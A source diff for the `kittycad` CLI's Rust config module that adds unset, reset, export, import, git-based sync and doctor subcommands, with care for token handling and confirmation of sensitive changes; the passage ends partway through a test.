@@ -1,5 +1,8 @@
+use std::{collections::BTreeMap, str::FromStr};
+
 use anyhow::{bail, Result};
 use clap::Parser;
+use serde::{Deserialize, Serialize};
 
 // TODO: make this doc a function that parses from the config the options so it's not hardcoded
 /// Manage configuration for `kittycad`.
@@ -10,6 +13,67 @@ use clap::Parser;
 /// - pager: the terminal pager program to send standard output to
 /// - browser: the web browser to use for opening URLs
 /// - format: the formatting style for command output
+/// - credential_store: where to store authentication tokens (default: "file")
+/// - max_body_size: the maximum size in bytes of a raw API response to read
+/// - retries: the number of times to retry failed API requests
+/// - timeout: how long a command may run before it is aborted
+/// - limit_rate: the maximum rate to upload and download files at
+/// - max_idle_connections: the number of idle connections to keep open to each host
+/// - idle_timeout: how long to keep idle connections open
+/// - http2: whether to talk to the API over HTTP/2 (default: "auto")
+/// - http_proxy: the proxy to send requests through
+/// - ca_bundle: a file of extra certificate authorities to trust
+/// - insecure_skip_verify: do not verify the certificates of the servers we talk to (default: "false")
+/// - allowed_hosts: the only hosts kittycad may send requests to
+/// - hyperlinks: whether to print URLs as clickable links (default: "auto")
+/// - accessible_output: plain output for screen readers (default: "disabled")
+/// - privacy: hide your identity in command output (default: "normal")
+/// - release_public_key: the public key releases must be signed with
+/// - update_channel: which releases to update to (default: "stable")
+/// - quota_warning: warn when your credit is below this amount
+/// - telemetry: record anonymized usage metrics (default: "disabled")
+///
+/// An administrator can restrict the hosts of every user on the machine by listing them
+/// under `allowed_hosts` in `/etc/kittycad/policy.yml` (`C:\ProgramData\KittyCAD\policy.yml`
+/// on Windows). The `allowed_hosts` setting can't widen that list.
+///
+/// A host can list several endpoints, comma separated, for deployments with more than
+/// one server. Every command uses the first one that answers a ping, unless you pick one
+/// with `--endpoint`:
+///
+///     $ kittycad config set -H kittycad.internal endpoints a.kittycad.internal,b.kittycad.internal
+///
+/// A host can be pinned to a version of the API with `api_version`, for self-hosted
+/// servers that don't speak the newest one. Requests then ask for that version:
+///
+///     $ kittycad config set -H kittycad.internal api_version v1
+///
+/// Links for `kittycad open` are set with `links.<name>`:
+///
+///     $ kittycad config set links.dashboard https://grafana.example.com/d/kittycad
+///
+/// Settings for a single command are namespaced by the command, its subcommands
+/// joined with underscores:
+/// - defaults.<command>.fields: the fields to print in JSON output, comma separated
+/// - defaults.<command>.<flag>: the default for a flag, its long name with underscores
+///
+///     # only print the id, status and completion time of API calls
+///     $ kittycad config set defaults.api_call_status.fields id,status,completed_at
+///
+///     # convert files to obj unless told otherwise
+///     $ kittycad config set defaults.file_convert.output_format obj
+///
+/// Flags given on the command line always win over these defaults.
+///
+/// Every setting can also be set with an environment variable, `KITTYCAD_` followed
+/// by the key in upper case, which wins over the configuration file:
+///
+///     # don't prompt, without writing a configuration file
+///     $ export KITTYCAD_PROMPT=disabled
+///
+/// Use `kittycad config export` and `kittycad config import` to copy your
+/// configuration to another machine, or `kittycad config sync` to keep it in a git
+/// repo.
 #[derive(Parser, Debug, Clone)]
 #[clap(verbatim_doc_comment)]
 pub struct CmdConfig {
@@ -22,6 +86,12 @@ enum SubCommand {
     Set(CmdConfigSet),
     List(CmdConfigList),
     Get(CmdConfigGet),
+    Unset(CmdConfigUnset),
+    Reset(CmdConfigReset),
+    Export(CmdConfigExport),
+    Import(CmdConfigImport),
+    Sync(CmdConfigSync),
+    Doctor(CmdConfigDoctor),
 }
 
 #[async_trait::async_trait]
@@ -31,6 +101,12 @@ impl crate::cmd::Command for CmdConfig {
             SubCommand::Get(cmd) => cmd.run(ctx).await,
             SubCommand::Set(cmd) => cmd.run(ctx).await,
             SubCommand::List(cmd) => cmd.run(ctx).await,
+            SubCommand::Unset(cmd) => cmd.run(ctx).await,
+            SubCommand::Reset(cmd) => cmd.run(ctx).await,
+            SubCommand::Export(cmd) => cmd.run(ctx).await,
+            SubCommand::Import(cmd) => cmd.run(ctx).await,
+            SubCommand::Sync(cmd) => cmd.run(ctx).await,
+            SubCommand::Doctor(cmd) => cmd.run(ctx).await,
         }
     }
 }
@@ -63,6 +139,16 @@ impl crate::cmd::Command for CmdConfigGet {
 }
 
 /// Update configuration with a value for the given key.
+///
+/// This prints the value before and after the change and the file that was changed.
+/// Before changing a per-host setting, the hosts file is backed up next to it with
+/// the time in its name, so you can go back.
+///
+///     # use another browser
+///     $ kittycad config set browser firefox
+///
+///     # record the change as json
+///     $ kittycad config set browser firefox --format json
 #[derive(Parser, Debug, Clone)]
 #[clap(verbatim_doc_comment)]
 pub struct CmdConfigSet {
@@ -77,6 +163,42 @@ pub struct CmdConfigSet {
     /// Set per-host setting.
     #[clap(short = 'H', long, default_value = "")]
     pub host: String,
+
+    /// Command output format.
+    #[clap(long, short, arg_enum)]
+    pub format: Option<crate::types::FormatOutput>,
+}
+
+/// What `config set` changed.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+struct ConfigChange {
+    key: String,
+    #[serde(skip_serializing_if = "String::is_empty")]
+    host: String,
+    /// The value before the change, if it had one.
+    before: Option<String>,
+    after: String,
+    /// The file the value was written to.
+    file: String,
+    /// The backup of the file made before the change, if any.
+    backup: Option<String>,
+}
+
+impl std::fmt::Display for ConfigChange {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        if self.host.is_empty() {
+            writeln!(f, "Set {} in {}", self.key, self.file)?;
+        } else {
+            writeln!(f, "Set {} for {} in {}", self.key, self.host, self.file)?;
+        }
+        writeln!(f, "  before: {}", self.before.as_deref().unwrap_or("(not set)"))?;
+        writeln!(f, "  after:  {}", self.after)?;
+        if let Some(backup) = &self.backup {
+            writeln!(f, "  backup: {}", backup)?;
+        }
+
+        Ok(())
+    }
 }
 
 #[async_trait::async_trait]
@@ -85,8 +207,10 @@ impl crate::cmd::Command for CmdConfigSet {
         let cs = ctx.io.color_scheme();
 
         // Validate the key.
+        let host_setting = !self.host.is_empty() && HOST_SETTINGS.contains(&self.key.as_str());
         match crate::config::validate_key(&self.key) {
             Ok(()) => (),
+            Err(_) if host_setting => (),
             Err(_) => {
                 bail!(
                     "{} warning: '{}' is not a known configuration key",
@@ -101,8 +225,165 @@ impl crate::cmd::Command for CmdConfigSet {
             bail!("{}", err);
         }
 
+        // Setting the value would do nothing while the environment overrides it.
+        if let Err(err) = ctx.config.check_writable(&self.host, &self.key) {
+            bail!("{}", err);
+        }
+
+        let before = ctx
+            .config
+            .get(&self.host, &self.key)
+            .ok()
+            .filter(|value| !value.is_empty());
+        let (file, backup) = if self.host.is_empty() {
+            (crate::config_file::config_file()?, None)
+        } else {
+            let hosts_file = crate::config_file::hosts_file()?;
+            let backup = crate::config_file::backup_config_file(&hosts_file)?;
+            (hosts_file, backup)
+        };
+
         // Set the value.
-        if let Err(err) = ctx.config.set(&self.host, &self.key, &self.value) {
+        let mut migration = crate::config_credentials::Migration::default();
+        if self.key == "credential_store" && self.host.is_empty() {
+            // Move any existing tokens over to the new store.
+            let kind = crate::config_credentials::CredentialStoreKind::from_str(&self.value)?;
+            migration = match crate::config_credentials::migrate(ctx.config, &kind) {
+                Ok(migration) => migration,
+                Err(err) => bail!("{}", err),
+            };
+        } else if let Err(err) = ctx.config.set(&self.host, &self.key, &self.value) {
+            bail!("{}", err);
+        }
+
+        // Write the config file.
+        if let Err(err) = ctx.config.write() {
+            bail!("{}", err);
+        }
+        migration.finish()?;
+
+        let change = ConfigChange {
+            key: self.key.to_string(),
+            host: self.host.to_string(),
+            before,
+            after: self.value.to_string(),
+            file,
+            backup,
+        };
+        match ctx.format(&self.format)? {
+            crate::types::FormatOutput::Json => ctx.io.write_output_json(&serde_json::to_value(&change)?)?,
+            crate::types::FormatOutput::Yaml => ctx.io.write_output_yaml(&change)?,
+            crate::types::FormatOutput::Table => write!(ctx.io.err_out, "{} {}", cs.success_icon(), change)?,
+        }
+
+        Ok(())
+    }
+}
+
+/// Remove the value of a given configuration key.
+///
+/// Configuration options go back to their default value.
+///
+///     # go back to the default browser
+///     $ kittycad config unset browser
+///
+///     # remove a per-host setting
+///     $ kittycad config unset browser --host example.org
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigUnset {
+    /// The key to remove the value of.
+    #[clap(name = "key", required = true)]
+    pub key: String,
+
+    /// Remove per-host setting.
+    #[clap(short = 'H', long, default_value = "")]
+    pub host: String,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigUnset {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        let cs = ctx.io.color_scheme();
+
+        // Validate the key.
+        let host_key = !self.host.is_empty() && HOST_KEYS.contains(&self.key.as_str());
+        if !host_key && crate::config::validate_key(&self.key).is_err() {
+            bail!(
+                "{} warning: '{}' is not a known configuration key",
+                cs.warning_icon(),
+                self.key
+            );
+        }
+
+        if let Err(err) = ctx.config.check_writable(&self.host, &self.key) {
+            bail!("{}", err);
+        }
+
+        let mut migration = crate::config_credentials::Migration::default();
+        if self.key == "credential_store" && self.host.is_empty() {
+            // Move any existing tokens back to the default store.
+            let kind = crate::config_credentials::CredentialStoreKind::default();
+            migration = match crate::config_credentials::migrate(ctx.config, &kind) {
+                Ok(migration) => migration,
+                Err(err) => bail!("{}", err),
+            };
+        } else if let Err(err) = ctx.config.unset(&self.host, &self.key) {
+            bail!("{}", err);
+        }
+
+        // Write the config file.
+        if let Err(err) = ctx.config.write() {
+            bail!("{}", err);
+        }
+        migration.finish()?;
+
+        Ok(())
+    }
+}
+
+/// Reset the configuration to the defaults.
+///
+/// This removes your settings and aliases. You stay logged in, since the hosts
+/// you are authenticated with are kept, and so is `credential_store`, so tokens in
+/// the system keyring stay there.
+///
+///     # reset the configuration
+///     $ kittycad config reset
+///
+///     # reset the configuration without prompting
+///     $ kittycad config reset --yes
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigReset {
+    /// Reset the configuration without prompting for confirmation.
+    #[clap(long, short)]
+    pub yes: bool,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigReset {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        if !ctx.io.can_prompt() && !self.yes {
+            bail!(crate::i18n::tr("--yes required when not running interactively"));
+        }
+
+        if !self.yes {
+            match dialoguer::Confirm::new()
+                .with_prompt("Are you sure you want to reset your settings and aliases to the defaults?")
+                .interact()
+            {
+                Ok(true) => {}
+                Ok(false) => {
+                    return Ok(());
+                }
+                Err(err) => {
+                    return Err(anyhow::anyhow!("prompt failed: {}", err));
+                }
+            }
+        }
+
+        if let Err(err) = ctx.config.reset() {
             bail!("{}", err);
         }
 
@@ -111,6 +392,13 @@ impl crate::cmd::Command for CmdConfigSet {
             bail!("{}", err);
         }
 
+        let cs = ctx.io.color_scheme();
+        writeln!(
+            ctx.io.err_out,
+            "{} Reset the configuration to the defaults",
+            cs.success_icon()
+        )?;
+
         Ok(())
     }
 }
@@ -153,12 +441,844 @@ impl crate::cmd::Command for CmdConfigList {
     }
 }
 
+/// Keys that can only be set per host, on top of the configuration keys.
+pub(crate) const HOST_KEYS: &[&str] = &["user", "default", "token", "account", "endpoints", "api_version"];
+
+/// The keys of a host that can be set with `config set`, the others are managed by
+/// `kittycad auth`.
+const HOST_SETTINGS: &[&str] = &["endpoints", "api_version"];
+
+/// Settings that only ever apply to this machine, so they are never exported or
+/// imported. Not checking certificates must not follow a configuration around.
+const LOCAL_SETTINGS: &[&str] = &["insecure_skip_verify"];
+
+/// The configuration as it is exported and imported.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ExportedConfig {
+    #[serde(default)]
+    settings: BTreeMap<String, String>,
+    #[serde(default)]
+    hosts: BTreeMap<String, BTreeMap<String, String>>,
+    #[serde(default)]
+    aliases: BTreeMap<String, String>,
+    /// The accounts put aside for each host, by host and name.
+    #[serde(default)]
+    accounts: BTreeMap<String, BTreeMap<String, BTreeMap<String, String>>>,
+}
+
+/// Export the configuration, so it can be imported on another machine.
+///
+/// Authentication tokens are left out unless you pass `--include-secrets`, treat
+/// the output like a password if you do. `insecure_skip_verify` is never exported.
+///
+///     # export your configuration
+///     $ kittycad config export > kittycad.yaml
+///
+///     # export it as json, with your tokens
+///     $ kittycad config export --format json --include-secrets > kittycad.json
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigExport {
+    /// Include authentication tokens.
+    #[clap(long)]
+    pub include_secrets: bool,
+
+    /// Output format, json or yaml.
+    #[clap(long, short, arg_enum, default_value = "yaml")]
+    pub format: crate::types::FormatOutput,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigExport {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        let exported = export_config(ctx.config, self.include_secrets)?;
+
+        match self.format {
+            crate::types::FormatOutput::Json => ctx.io.write_output_json(&serde_json::to_value(&exported)?)?,
+            crate::types::FormatOutput::Yaml => ctx.io.write_output_yaml(&exported)?,
+            crate::types::FormatOutput::Table => bail!("the configuration can only be exported as json or yaml"),
+        }
+
+        Ok(())
+    }
+}
+
+/// Import configuration exported with `kittycad config export`.
+///
+/// Every key and value is checked before anything is changed. Settings, hosts,
+/// aliases and accounts in the file replace the ones you have, anything else is left
+/// alone. `insecure_skip_verify` can't be imported, set it with `kittycad config set`.
+///
+///     # import configuration from a file
+///     $ kittycad config import kittycad.yaml
+///
+///     # import configuration from stdin
+///     $ cat kittycad.json | kittycad config import -
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigImport {
+    /// The file to import, json or yaml. Pass `-` to read from stdin.
+    #[clap(name = "file", required = true)]
+    pub file: String,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigImport {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        let content = ctx.read_file(&self.file)?;
+        // YAML is a superset of JSON, so this reads both.
+        let imported: ExportedConfig = serde_yaml::from_slice(&content)
+            .map_err(|err| anyhow::anyhow!("failed to parse {}: {}", self.file, err))?;
+
+        validate_import(&imported)?;
+        let migration = import_config(ctx.config, &imported)?;
+
+        if let Err(err) = ctx.config.write() {
+            bail!("{}", err);
+        }
+        migration.finish()?;
+
+        let cs = ctx.io.color_scheme();
+        writeln!(
+            ctx.io.err_out,
+            "{} Imported {} settings, {} hosts and {} aliases",
+            cs.success_icon(),
+            imported.settings.len(),
+            imported.hosts.len(),
+            imported.aliases.len()
+        )?;
+
+        Ok(())
+    }
+}
+
+/// Check your configuration files for problems.
+///
+/// Reports keys `kittycad` doesn't know, invalid values, hosts that are listed twice or
+/// have no token, tokens left behind, and files other users can read or change.
+///
+/// With `--fix`, the problems that can be fixed are: unknown keys and tokens left behind
+/// are removed, invalid values are set back to their default, plaintext tokens are moved
+/// to the credential store you use and the files are made readable only by you. The
+/// files are backed up first, your comments are kept.
+///
+///     $ kittycad config doctor
+///
+///     $ kittycad config doctor --fix
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigDoctor {
+    /// Fix the problems that can be fixed.
+    #[clap(long)]
+    pub fix: bool,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigDoctor {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        let cs = ctx.io.color_scheme();
+        let store = crate::config_credentials::CredentialStoreKind::from_str(
+            &ctx.config.get("", "credential_store").unwrap_or_default(),
+        )
+        .unwrap_or_default()
+        .store();
+
+        let mut remaining = 0;
+        for (path, hosts) in [
+            (crate::config_file::config_file()?, false),
+            (crate::config_file::hosts_file()?, true),
+        ] {
+            if !std::path::Path::new(&path).exists() {
+                continue;
+            }
+
+            let content = std::fs::read_to_string(&path)?;
+            let mut problems: Vec<crate::config_doctor::Problem> =
+                crate::config_doctor::check_permissions(&path, hosts)
+                    .into_iter()
+                    .collect();
+            let mut doc = match crate::config_doctor::parse(&path, &content) {
+                Ok(doc) => {
+                    problems.extend(if hosts {
+                        crate::config_doctor::check_hosts(&path, &doc, store.as_deref())
+                    } else {
+                        crate::config_doctor::check_config(&path, &doc)
+                    });
+                    Some(doc)
+                }
+                Err(problem) => {
+                    problems.push(problem);
+                    None
+                }
+            };
+
+            let (fixable, unfixable): (Vec<_>, Vec<_>) = problems.into_iter().partition(|p| p.fix.is_some());
+            for problem in &unfixable {
+                writeln!(ctx.io.err_out, "{} {}", cs.warning_icon(), problem)?;
+            }
+            remaining += unfixable.len();
+
+            if !self.fix {
+                for problem in &fixable {
+                    writeln!(
+                        ctx.io.err_out,
+                        "{} {}, `--fix` will {}",
+                        cs.warning_icon(),
+                        problem,
+                        problem.fix.as_ref().unwrap()
+                    )?;
+                }
+                remaining += fixable.len();
+                continue;
+            }
+
+            if fixable.is_empty() {
+                continue;
+            }
+            if let Some(backup) = crate::config_file::backup_config_file(&path)? {
+                writeln!(ctx.io.err_out, "Backed up {} to {}", path, backup)?;
+            }
+            // A file that can't be parsed can only have its permissions fixed.
+            let mut blank = toml_edit::Document::new();
+            for problem in &fixable {
+                crate::config_doctor::fix(doc.as_mut().unwrap_or(&mut blank), problem, store.as_deref())?;
+                writeln!(ctx.io.err_out, "{} Fixed {}", cs.success_icon(), problem)?;
+            }
+            if let Some(doc) = doc {
+                crate::config_file::write_config_file(&path, &doc.to_string())?;
+            }
+        }
+
+        if remaining > 0 {
+            bail!("found {} problems in your configuration", remaining);
+        }
+
+        writeln!(ctx.io.err_out, "{} Your configuration looks good", cs.success_icon())?;
+
+        Ok(())
+    }
+}
+
+/// Sync your configuration through a git repo.
+///
+/// Your settings, hosts and aliases are kept in a `kittycad.yaml` in a git repo you
+/// own, without your tokens, so your setup follows you across machines. Pass the
+/// repo the first time, it is remembered after that.
+///
+/// If your configuration and the one in the repo both changed since the last sync,
+/// nothing is changed unless you pass `--force`: pushing with it keeps yours, pulling
+/// with it takes the one in the repo.
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigSync {
+    #[clap(subcommand)]
+    subcmd: SyncSubCommand,
+}
+
+#[derive(Parser, Debug, Clone)]
+enum SyncSubCommand {
+    Push(CmdConfigSyncPush),
+    Pull(CmdConfigSyncPull),
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigSync {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        match &self.subcmd {
+            SyncSubCommand::Push(cmd) => cmd.run(ctx).await,
+            SyncSubCommand::Pull(cmd) => cmd.run(ctx).await,
+        }
+    }
+}
+
+/// Push your configuration to the sync repo.
+///
+///     $ kittycad config sync push --repo git@github.com:me/kittycad-config.git
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigSyncPush {
+    /// The git repo to sync with, by default the last one.
+    #[clap(long)]
+    pub repo: Option<String>,
+
+    /// Replace the configuration in the repo even if it changed since your last sync.
+    #[clap(long)]
+    pub force: bool,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigSyncPush {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        let repo = open_sync_repo(self.repo.as_deref())?;
+        let url = repo.url()?;
+        repo.fetch()?;
+
+        let local = serde_yaml::to_string(&export_config(ctx.config, false)?)?;
+        let (synced, remote) = (repo.synced(), repo.remote());
+        let cs = ctx.io.color_scheme();
+
+        if remote.as_deref() == Some(local.as_str()) {
+            repo.pull()?;
+            writeln!(ctx.io.err_out, "{} {} is already up to date", cs.success_icon(), url)?;
+            return Ok(());
+        }
+        if remote != synced && !self.force {
+            bail!(
+                "the configuration in {} changed since your last sync, run `kittycad config sync pull` first or push with --force to replace it",
+                url
+            );
+        }
+
+        repo.push(&local, "Sync kittycad configuration", self.force)?;
+        writeln!(
+            ctx.io.err_out,
+            "{} Pushed your configuration to {}",
+            cs.success_icon(),
+            url
+        )?;
+
+        Ok(())
+    }
+}
+
+/// Pull your configuration from the sync repo.
+///
+/// Settings, hosts and aliases in the repo replace the ones you have, anything else
+/// is left alone, like `kittycad config import`.
+///
+/// Anyone who can push to the repo can change your configuration, so you are shown and
+/// asked about changes to the programs we run, like `browser` or shell aliases, and to
+/// how we connect, like `http_proxy` or `endpoints`, before they are applied.
+///
+///     $ kittycad config sync pull --repo git@github.com:me/kittycad-config.git
+#[derive(Parser, Debug, Clone)]
+#[clap(verbatim_doc_comment)]
+pub struct CmdConfigSyncPull {
+    /// The git repo to sync with, by default the last one.
+    #[clap(long)]
+    pub repo: Option<String>,
+
+    /// Take the configuration in the repo even if yours changed since your last sync.
+    #[clap(long)]
+    pub force: bool,
+
+    /// Apply changes to the programs we run and how we connect without prompting for
+    /// confirmation.
+    #[clap(long, short)]
+    pub yes: bool,
+}
+
+#[async_trait::async_trait]
+impl crate::cmd::Command for CmdConfigSyncPull {
+    async fn run(&self, ctx: &mut crate::context::Context) -> Result<()> {
+        let repo = open_sync_repo(self.repo.as_deref())?;
+        let url = repo.url()?;
+        repo.fetch()?;
+
+        let remote = match repo.remote() {
+            Some(remote) => remote,
+            None => bail!(
+                "there is no configuration in {} yet, push yours with `kittycad config sync push`",
+                url
+            ),
+        };
+        let local = serde_yaml::to_string(&export_config(ctx.config, false)?)?;
+        let synced = repo.synced();
+        let cs = ctx.io.color_scheme();
+
+        if remote == local || (synced.as_deref() == Some(remote.as_str()) && !self.force) {
+            repo.pull()?;
+            writeln!(ctx.io.err_out, "{} Already up to date with {}", cs.success_icon(), url)?;
+            return Ok(());
+        }
+        if crate::config_sync::is_conflict(synced.as_deref(), &local, Some(&remote)) && !self.force {
+            bail!(
+                "your configuration and the one in {} both changed since your last sync, pull with --force to take theirs or push with --force to keep yours",
+                url
+            );
+        }
+
+        let imported: ExportedConfig = serde_yaml::from_str(&remote)
+            .map_err(|err| anyhow::anyhow!("failed to parse {} in {}: {}", crate::config_sync::SYNC_FILE, url, err))?;
+        validate_import(&imported)?;
+
+        let changes = sensitive_changes(ctx.config, &imported)?;
+        if !changes.is_empty() && !self.yes {
+            if !ctx.io.can_prompt() {
+                bail!(crate::i18n::tr("--yes required when not running interactively"));
+            }
+
+            writeln!(
+                ctx.io.err_out,
+                "The configuration in {} changes the programs we run or how we connect:\n{}",
+                url,
+                changes.join("\n")
+            )?;
+            match dialoguer::Confirm::new()
+                .with_prompt("Are you sure you want to apply these changes?")
+                .interact()
+            {
+                Ok(true) => {}
+                Ok(false) => {
+                    return Ok(());
+                }
+                Err(err) => {
+                    return Err(anyhow::anyhow!("prompt failed: {}", err));
+                }
+            }
+        }
+
+        let migration = import_config(ctx.config, &imported)?;
+        if let Err(err) = ctx.config.write() {
+            bail!("{}", err);
+        }
+        migration.finish()?;
+        repo.pull()?;
+
+        writeln!(
+            ctx.io.err_out,
+            "{} Pulled {} settings, {} hosts and {} aliases from {}",
+            cs.success_icon(),
+            imported.settings.len(),
+            imported.hosts.len(),
+            imported.aliases.len(),
+            url
+        )?;
+
+        Ok(())
+    }
+}
+
+/// Open the local clone of the sync repo, cloning it if needed.
+fn open_sync_repo(url: Option<&str>) -> Result<crate::config_sync::SyncRepo> {
+    let dir = crate::config_file::sync_dir()?;
+    crate::config_sync::SyncRepo::open(std::path::Path::new(&dir), url)
+}
+
+/// Returns the configuration to export.
+fn export_config(config: &mut dyn crate::config::Config, include_secrets: bool) -> Result<ExportedConfig> {
+    let mut exported = ExportedConfig::default();
+
+    for option in crate::config::config_options() {
+        if !LOCAL_SETTINGS.contains(&option.key.as_str()) {
+            exported
+                .settings
+                .insert(option.key.to_string(), config.get("", &option.key)?);
+        }
+    }
+    for (key, value) in config.command_defaults()? {
+        exported.settings.insert(key, value);
+    }
+    for (name, url) in config.links()? {
+        exported.settings.insert(crate::config::link_key(&name), url);
+    }
+
+    let hosts = config.hosts()?;
+    let default_host = config.default_host().unwrap_or_default();
+    for host in &hosts {
+        let mut keys: Vec<String> = crate::config::config_options()
+            .into_iter()
+            .map(|o| o.key)
+            .filter(|key| !LOCAL_SETTINGS.contains(&key.as_str()))
+            .collect();
+        keys.extend(HOST_SETTINGS.iter().map(|key| key.to_string()));
+        keys.push("user".to_string());
+        keys.push("account".to_string());
+        if include_secrets {
+            keys.push("token".to_string());
+        }
+
+        let mut values = BTreeMap::new();
+        for key in keys {
+            if let Ok((value, source)) = config.get_with_source(host, &key) {
+                // Tokens from the environment aren't part of the configuration.
+                if !value.is_empty() && !source.starts_with("KITTYCAD_") {
+                    values.insert(key, value);
+                }
+            }
+        }
+        if hosts.len() > 1 && *host == default_host {
+            values.insert("default".to_string(), "true".to_string());
+        }
+
+        if !values.is_empty() {
+            exported.hosts.insert(host.to_string(), values);
+        }
+
+        let mut accounts = BTreeMap::new();
+        for account in config.accounts(host)? {
+            let (user, token) = config.get_account(host, &account)?;
+            let mut values = BTreeMap::from([("user".to_string(), user)]);
+            if include_secrets && !token.is_empty() {
+                values.insert("token".to_string(), token);
+            }
+            accounts.insert(account, values);
+        }
+        if !accounts.is_empty() {
+            exported.accounts.insert(host.to_string(), accounts);
+        }
+    }
+
+    let aliases = config.aliases()?;
+    for alias in aliases.list().keys() {
+        let (expansion, ok) = aliases.get(alias);
+        if ok {
+            exported.aliases.insert(alias.to_string(), expansion);
+        }
+    }
+
+    Ok(exported)
+}
+
+/// Settings that run programs, or change where and how we connect to the API. A shared
+/// sync repo must not change them without asking.
+const SENSITIVE_SETTINGS: &[&str] = &[
+    "editor",
+    "pager",
+    "browser",
+    "http_proxy",
+    "ca_bundle",
+    "release_public_key",
+    "endpoints",
+];
+
+/// Returns the changes importing makes to sensitive settings and to shell aliases, as
+/// the lines of a diff.
+fn sensitive_changes(config: &mut dyn crate::config::Config, imported: &ExportedConfig) -> Result<Vec<String>> {
+    let mut changes = vec![];
+    let mut diff = |name: String, old: String, new: &str| {
+        if old != new {
+            if !old.is_empty() {
+                changes.push(format!("- {} = {:?}", name, old));
+            }
+            changes.push(format!("+ {} = {:?}", name, new));
+        }
+    };
+
+    for (key, value) in &imported.settings {
+        if SENSITIVE_SETTINGS.contains(&key.as_str()) {
+            diff(
+                format!("settings.{}", key),
+                config.get("", key).unwrap_or_default(),
+                value,
+            );
+        }
+    }
+
+    for (host, values) in &imported.hosts {
+        for (key, value) in values {
+            if SENSITIVE_SETTINGS.contains(&key.as_str()) {
+                diff(
+                    format!("hosts.{}.{}", host, key),
+                    config.get(host, key).unwrap_or_default(),
+                    value,
+                );
+            }
+        }
+    }
+
+    let aliases = config.aliases()?;
+    for (alias, expansion) in &imported.aliases {
+        if expansion.starts_with('!') {
+            let (old, _) = aliases.get(alias);
+            diff(format!("aliases.{}", alias), old, expansion);
+        }
+    }
+
+    Ok(changes)
+}
+
+/// Check every key and value we are about to import, so we don't import half a file.
+fn validate_import(imported: &ExportedConfig) -> Result<()> {
+    let mut errors = vec![];
+
+    for (key, value) in &imported.settings {
+        if LOCAL_SETTINGS.contains(&key.as_str()) {
+            errors.push(format!("settings.{}: can only be set with `kittycad config set`", key));
+        } else if let Err(err) =
+            crate::config::validate_key(key).and_then(|_| crate::config::validate_value(key, value))
+        {
+            errors.push(format!("settings.{}: {}", key, err));
+        }
+    }
+
+    for (host, values) in &imported.hosts {
+        for (key, value) in values {
+            let result = if key == "default" {
+                if value == "true" || value == "false" {
+                    Ok(())
+                } else {
+                    Err(anyhow::anyhow!("expected true or false"))
+                }
+            } else if HOST_KEYS.contains(&key.as_str()) {
+                Ok(())
+            } else if LOCAL_SETTINGS.contains(&key.as_str()) {
+                Err(anyhow::anyhow!("can only be set with `kittycad config set`"))
+            } else {
+                crate::config::validate_key(key).and_then(|_| crate::config::validate_value(key, value))
+            };
+
+            if let Err(err) = result {
+                errors.push(format!("hosts.{}.{}: {}", host, key, err));
+            }
+        }
+    }
+
+    for (host, accounts) in &imported.accounts {
+        for (account, values) in accounts {
+            for key in values.keys() {
+                if key != "user" && key != "token" {
+                    errors.push(format!("accounts.{}.{}.{}: expected user or token", host, account, key));
+                }
+            }
+        }
+    }
+
+    if !errors.is_empty() {
+        bail!("invalid configuration:\n  {}", errors.join("\n  "));
+    }
+
+    Ok(())
+}
+
+/// Apply imported configuration, without writing it. Tokens moved to another credential
+/// store stay in the old one until the returned migration is finished.
+fn import_config(
+    config: &mut dyn crate::config::Config,
+    imported: &ExportedConfig,
+) -> Result<crate::config_credentials::Migration> {
+    let mut migration = crate::config_credentials::Migration::default();
+    for (key, value) in &imported.settings {
+        if key == "credential_store" {
+            // Move any existing tokens over to the new store before importing more.
+            let kind = crate::config_credentials::CredentialStoreKind::from_str(value)?;
+            migration = crate::config_credentials::migrate(config, &kind)?;
+        } else {
+            config.set("", key, value)?;
+        }
+    }
+
+    for (host, values) in &imported.hosts {
+        for (key, value) in values {
+            config.set(host, key, value)?;
+        }
+    }
+
+    if !imported.aliases.is_empty() {
+        let mut aliases = config.aliases()?;
+        for (alias, expansion) in &imported.aliases {
+            aliases.map.set_string_value(alias, expansion)?;
+        }
+        aliases.parent.save_aliases(&aliases.map)?;
+    }
+
+    for (host, accounts) in &imported.accounts {
+        for (account, values) in accounts {
+            let value = |key: &str| values.get(key).map(|v| v.as_str()).unwrap_or_default();
+            config.add_account(host, account, value("user"), value("token"))?;
+        }
+    }
+
+    Ok(migration)
+}
+
 #[cfg(test)]
 mod test {
     use pretty_assertions::assert_eq;
 
     use crate::cmd::Command;
 
+    #[test]
+    fn test_export_import_config() {
+        use crate::config::Config;
+
+        let mut config = crate::config::new_blank_config().unwrap();
+        config.set("", "browser", "firefox").unwrap();
+        config.set("example.org", "user", "me@example.org").unwrap();
+        config.set("example.org", "token", "secret").unwrap();
+        config.set("example.org", "api_version", "v1").unwrap();
+        config
